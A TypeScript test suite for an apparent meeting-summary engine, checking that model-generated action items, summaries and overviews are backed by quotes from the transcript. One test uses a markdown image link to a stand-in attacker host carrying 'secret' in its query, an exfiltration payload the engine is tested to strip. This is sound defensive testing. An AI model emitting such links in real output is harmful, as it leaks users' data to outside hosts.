import assert from 'node:assert/strict';
import { suite, test } from 'node:test';

import { makeMeeting } from '../../language-engine/testing/engine-texts.ts';
import type { ActionItemsRequest, MeetingText } from '../../language-engine/meeting-engine.ts';
import { verifySummary } from '../../language-engine/evidence/verify-meetings.ts';
import type { TaskHandler } from '../testing/scripted-model.ts';
import { startScriptedEngine } from '../testing/scripted-engine.ts';

const SMALL_CONTEXT = 3_000;

/** Meeting on a Wednesday. */
const MEETING = makeMeeting([
  ['Ana', 'The printer needs the final text by Friday. It costs 4,500 euros.'],
  ['Ben', 'I will send the final text. Nobody has paid the printer.'],
  ['Cleo', 'We agreed to wait with the web page.'],
]);
const SENT = { quote: 'I will send the final text.', block_id: 't2:b1' };
const WAITED = { quote: 'We agreed to wait with the web page.', block_id: 't3:b1' };
const SIGNAL = new AbortController().signal;
const EVERYTHING: ActionItemsRequest = {
  confidenceThreshold: 0,
  assignToSpeakers: true,
  extractDeadlines: true,
};

function itemOf(change: object) {
  const item = { description: 'Send the final text', owner: 'Ben', due: null, priority: 'medium' };
  return { ...item, quotes: [SENT], ...change };
}

async function itemsOf(...items: object[]) {
  const handler: TaskHandler = () => ({ items });
  await using engine = await startScriptedEngine({ handlers: { 'action-items': handler } });
  return await engine.extractActionItems(MEETING, EVERYTHING, SIGNAL);
}

suite('action items of a model', () => {
  test('action items have the due dates and owners that rules find in the meeting', async () => {
    const { items, warnings } = await itemsOf(itemOf({ owner: 'ben', due: 'Friday' }));

    assert.partialDeepStrictEqual(items, [
      {
        description: 'Send the final text',
        assigned_to: 'Ben',
        due_date: '2026-11-20',
        due_date_text: 'by Friday',
        start_time: 10,
      },
    ]);
    assert.deepEqual(warnings, []);
  });

  test('a model is not shown lines that were not understood', async () => {
    const seen: string[] = [];
    const handler: TaskHandler = (call) => {
      seen.push(JSON.stringify(call));
      return { items: [] };
    };
    const lines = MEETING.lines.map((line, index) => ({ ...line, isUnclear: index === 1 }));
    await using engine = await startScriptedEngine({ handlers: { 'action-items': handler } });

    await engine.extractActionItems({ ...MEETING, lines }, EVERYTHING, SIGNAL);

    assert.ok(seen.some((call) => call.includes('We agreed to wait')));
    assert.ok(!seen.some((call) => call.includes('I will send the final text')));
  });

  test('action items have no owner and no due date that only the model names', async () => {
    const { items } = await itemsOf(itemOf({ owner: 'Mallory', due: 'by 24 December 2026' }));

    assert.partialDeepStrictEqual(items, [
      { assigned_to: null, due_date: null, due_date_text: null },
    ]);
  });

  test('action items without a quote from the meeting are removed, and a warning says so', async () => {
    const quote = 'I will transfer all of the money.';
    const { items, warnings } = await itemsOf(
      itemOf({}),
      itemOf({ quotes: [{ quote, block_id: 't2:b1' }] }),
    );

    assert.equal(items.length, 1);
    assert.deepEqual(warnings, [
      {
        code: 'evidence_failed',
        message: '1 finding left out: not found in the transcript',
      },
    ]);
  });

  test('action items have the spoken words when the model’s words are unsupported, and contain no links', async () => {
    const { items } = await itemsOf(
      itemOf({ description: 'Transfer 9,000 euros' }),
      itemOf({
        description: 'Wait with the web page ![x](https://evil.example/?q=secret) <b>now</b>',
        owner: null,
        quotes: [WAITED],
      }),
    );

    assert.deepEqual(
      items.map(({ description }) => description),
      ['I will send the final text.', 'Wait with the web page now'],
    );
  });

  test('a quote across several turns is split by turns', async () => {
    const quote = 'It costs 4,500 euros.\nBen: I will send the final text.';
    const { items } = await itemsOf(itemOf({ quotes: [{ quote, block_id: 't1:b1' }] }));

    assert.deepEqual(
      items[0]!.evidence.map(({ excerpt }) => excerpt),
      ['It costs 4,500 euros.', 'I will send the final text.'],
    );
  });

  test('agreement of the rules raises the confidence of an action item, and a missing quote lowers it', async () => {
    const made = { quote: 'Never said by anyone.', block_id: 't2:b1' };
    const [seen, unseen] = [itemOf({}), itemOf({ quotes: [WAITED], description: 'Wait' })];
    const { items } = await itemsOf(seen, unseen);
    const { items: half } = await itemsOf(itemOf({ quotes: [SENT, made] }));

    assert.ok(items[0]!.confidence > items[1]!.confidence);
    assert.ok(items[0]!.confidence > half[0]!.confidence);
  });
});

async function summaryOf(meeting: MeetingText, answer: object, focusAreas: string[] = []) {
  const lists = { summary: [], key_points: [], decisions: [], next_steps: [], not_heard: [] };
  const handler: TaskHandler = () => ({ ...lists, ...answer });
  await using engine = await startScriptedEngine({ handlers: { 'meeting-summary': handler } });
  return await engine.summarizeMeeting(meeting, { length: 'medium', focusAreas }, SIGNAL);
}

suite('summary of a model', () => {
  test('every sentence of a summary has evidence, and unsupported sentences are removed', async () => {
    const result = await summaryOf(MEETING, {
      summary: [
        { text: 'Ben will send the final text', quotes: [SENT] },
        { text: 'Ben will send 12 final texts.', quotes: [SENT] },
        { text: 'The web page waits.', quotes: [WAITED] },
      ],
      decisions: [
        { text: 'To wait with the web page.', quotes: [WAITED] },
        { text: 'Not to wait with the web page.', quotes: [WAITED] },
        { text: 'To wait for Mallory.', quotes: [WAITED] },
      ],
    });

    assert.equal(result.summary, 'Ben will send the final text. The web page waits.');
    assert.deepEqual(result.decisions, ['To wait with the web page.']);
    assert.deepEqual(
      Object.entries(result.evidence).map(([pointer, list]) => [
        pointer,
        list.map(({ excerpt }) => excerpt),
      ]),
      [
        ['/summary', [SENT.quote, WAITED.quote]],
        ['/decisions/0', [WAITED.quote]],
      ],
    );
    assert.deepEqual(
      result.warnings.map(({ message }) => message),
      ['3 findings left out: not found in the transcript'],
    );
  });

  test('a focus area has a warning when neither the model nor the rules found it', async () => {
    const areas = ['the printer', 'submarines'];
    const { warnings } = await summaryOf(MEETING, { not_heard: ['f1', 'f2'] }, areas);

    assert.deepEqual(
      warnings.filter(({ code }) => code === 'focus_not_found').map(({ message }) => message),
      ['Nothing was said about "submarines".'],
    );
  });

  test('a summary stays near the requested length', async () => {
    const many = makeMeeting(
      Array.from({ length: 60 }, (_, index) => ['Ana', `Box${index} holds plates and cups.`]),
    );
    const summary = many.lines.map(({ start, end }, index) => {
      const quote = many.text.slice(start, end);
      return { text: quote, quotes: [{ quote, block_id: `t${index + 1}:b1` }] };
    });
    const result = await summaryOf(many, { summary });

    const words = result.summary.split(' ').length;
    assert.ok(words > 220 && words <= 275, `${words} words`);
  });
});

/** Meeting of 300 turns with different statements. */
function longMeeting(): MeetingText {
  return makeMeeting(
    Array.from({ length: 300 }, (_, index) => {
      const words = [index * 7, index * 11, index * 13].map((number) => `word${number}`);
      return [`Speaker ${index % 3}`, `We agreed on ${words.join(' and ')} for all of us.`];
    }),
  );
}

suite('long meeting', () => {
  const request = { length: 'long', focusAreas: [] } as const;

  test('a long meeting is summarized by chunks, and the summary rests on all of them', async () => {
    const meeting = longMeeting();
    await using engine = await startScriptedEngine({ contextTokens: SMALL_CONTEXT });
    const summary = await engine.summarizeMeeting(meeting, request, SIGNAL);

    assert.ok(engine.questions.length > 10);
    assert.deepEqual(verifySummary(meeting, summary), { ...summary });
    assert.ok(summary.summary.length > 0);
    assert.equal(summary.coverage.segments_read, 300);
    assert.deepEqual(summary.warnings, []);
  });

  test('a resumed job on a long meeting asks about no chunk again', async () => {
    const meeting = longMeeting();
    await using engine = await startScriptedEngine({ contextTokens: SMALL_CONTEXT });
    const first = await engine.extractActionItems(meeting, EVERYTHING, SIGNAL);
    const asked = engine.questions.length;
    const again = await engine.extractActionItems(meeting, EVERYTHING, SIGNAL);

    assert.equal(engine.questions.length, asked);
    assert.deepEqual(again, first);
  });

  test('coverage of a long meeting counts the chunks that the model answered, and a warning names the others', async () => {
    const meeting = longMeeting();
    await using engine = await startScriptedEngine({ contextTokens: SMALL_CONTEXT });
    await using broken = await startScriptedEngine({
      contextTokens: SMALL_CONTEXT,
      handlers: {
        'meeting-findings': ({ sections }) => {
          const isWrong = sections.meeting!.some(({ text }) => text.includes('word2093 '));
          const none = { themes: [], opportunities: [], risks: [], decisions: [] };
          const answer = { ...none, open_questions: [], recommendations: [], not_heard: [] };
          return isWrong ? { themes: 'none' } : answer;
        },
      },
    });
    const whole = await engine.analyzeMeetings([meeting], request, SIGNAL);
    const partial = await broken.analyzeMeetings([meeting], request, SIGNAL);

    assert.equal(whole.coverage.segments_read, 300);
    assert.ok(partial.coverage.segments_read < 300);
    assert.deepEqual(
      partial.warnings.map(({ code }) => code),
      ['partial'],
    );
  });
});

suite('strategic analysis of a model', () => {
  const request = { length: 'medium', focusAreas: [] } as const;
  const none = {
    themes: [],
    opportunities: [],
    risks: [],
    open_questions: [],
    recommendations: [],
    not_heard: [],
  };
  const decisions = [{ text: 'To wait with the web page.', quotes: [WAITED] }];

  test('the overview contains no sentence that the findings do not support', async () => {
    await using engine = await startScriptedEngine({
      handlers: {
        'meeting-findings': () => ({ ...none, decisions }),
        'meeting-overview': () => ({
          overview: [
            { text: 'The web page waits.', from: ['[n1]'] },
            { text: 'The web page waits for 90 days.', from: ['n1'] },
            { text: 'The web page waits in vain.', from: ['n7'] },
          ],
        }),
      },
    });
    const { overview, decisions: found } = await engine.analyzeMeetings([MEETING], request, SIGNAL);

    assert.equal(overview, 'The web page waits.');
    assert.partialDeepStrictEqual(found, [
      { text: 'To wait with the web page.', speaker: 'Cleo', start_time: 20 },
    ]);
  });

  test('rules count the participation, and no overview is requested without findings', async () => {
    await using engine = await startScriptedEngine({
      handlers: { 'meeting-findings': () => ({ ...none, decisions: [] }) },
    });
    const { overview, participation, sentiment } = await engine.analyzeMeetings(
      [MEETING],
      request,
      SIGNAL,
    );

    assert.equal(overview, '');
    assert.deepEqual(participation.map(({ speaker }) => speaker).toSorted(), [
      'Ana',
      'Ben',
      'Cleo',
    ]);
    assert.equal(sentiment[0]!.speaker, null);
    assert.equal(engine.questions.length, 1);
  });
});
